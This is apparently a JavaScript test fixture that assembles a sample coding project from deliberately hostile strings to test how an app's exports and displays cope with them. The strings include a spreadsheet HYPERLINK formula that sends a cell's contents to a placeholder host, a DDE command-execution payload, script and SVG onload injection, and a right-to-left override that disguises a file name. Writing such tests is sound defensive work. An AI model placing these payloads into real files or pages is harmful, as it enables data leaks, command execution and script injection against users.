/** A project made of texts that try everything: formulas, quotes, line ends, markup, directions, beyond the basic plane. */

export const MODEL = { id: "leitmotif-test", sha256: "0123456789abcdef".repeat(4) };
export const THEMES = ["urbanization", "opening-up", "industry", "ecology", "governance"];
export const CODEBOOK = THEMES.map((id) => ({ id, names: { en: id, zh: `主题${id}` }, definition: `What ${id} means.` }));

/** As `Themes` of sentences.js. */
export const NAMES = {
  ids: THEMES,
  name: (id) => (id === null ? "no theme" : id),
  position: (id) => (THEMES.includes(id) ? THEMES.indexOf(id) : null),
};

export const HOSTILE = [
  '=HYPERLINK("http://leitmotif.invalid/?x="&A1,"press")',
  "+1 and -1 and @SUM(A1)",
  "-2+3+cmd|' /C calc'!A0",
  "@import",
  "\tafter a tab",
  "\rafter a return",
  'He said "steel", then left; 3,5 % more',
  "two\nlines\r\nand three",
  "</script><script>window.ran = 1</script>",
  "]]><svg onload=\"window.ran = 1\"><![CDATA[ & &amp; &#0;",
  "\u202eمصنع الصلب\u202c والسكك الحديدية",
  "🏭👩‍🔬 𠮷野家 ﷽ e\u0301",
  "nul\u0000 escape\u001b lone \ud800 and \udc00 non\uffff",
  " leading and trailing ",
  "＝1＋1",
];

/** @param {string} text @param {object} [more] */
export const paragraph = (text, more = {}) => ({
  text,
  kind: "body",
  included: true,
  machine: {
    themes: ["industry"],
    certainty: "likely",
    probability: Object.fromEntries(THEMES.map((id, i) => [id, i / 10 + 0.05])),
    runnerUp: null,
  },
  codes: null,
  note: "",
  ...more,
});

/** @param {object[]} paragraphs @param {string} [name] */
export const article = (paragraphs, name = "An article") => ({
  name,
  source: paragraphs.map(({ text }) => text).join("\n\n"),
  split: "auto",
  paragraphs,
});

/** @param {...object} articles */
export const project = (...articles) => ({ articles, coder: 'R. "Q" O\'Neil, =2', model: MODEL, app: "0.1.0" });

export const hostileProject = () =>
  project(
    article(HOSTILE.map((text, i) => paragraph(text, { note: HOSTILE[(i + 1) % HOSTILE.length] })), '=1+1 "</title><script>" \u202efdp.exe'),
    article(
      [
        paragraph("Coded by a person.", { codes: { themes: ["ecology", "governance"], coder: "=A1", at: "2026-11-25T10:00:00.000Z" } }),
        paragraph("Found to have no theme.", { codes: { themes: [], coder: "B", at: "2026-11-25T10:00:01Z", unsure: true } }),
        paragraph("The machine found none.", { machine: { themes: [], certainty: "unsure", probability: {}, runnerUp: "ecology" } }),
        paragraph("Read more", { kind: "furniture", included: false }),
      ],
      "",
    ),
  );
